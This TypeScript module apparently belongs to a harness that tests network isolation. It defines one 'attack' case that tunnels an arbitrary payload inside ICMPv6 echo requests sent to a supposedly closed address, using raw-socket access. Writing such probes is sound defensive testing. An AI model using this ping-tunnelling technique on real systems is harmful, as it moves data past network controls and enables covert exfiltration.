import type { Attack } from '../../prove/attack.ts'
import { icmpPacket } from '../../prove/packet.ts'

export default {
  tries: 'carries data in echo requests over IPv6',
  assumes: ['net_raw'],
  run: ({ packet, own, closed, payload }) =>
    packet(icmpPacket({ source: own[6], destination: closed[6] }, 128, 0, Buffer.concat([new Uint8Array(4), payload]))),
} satisfies Attack
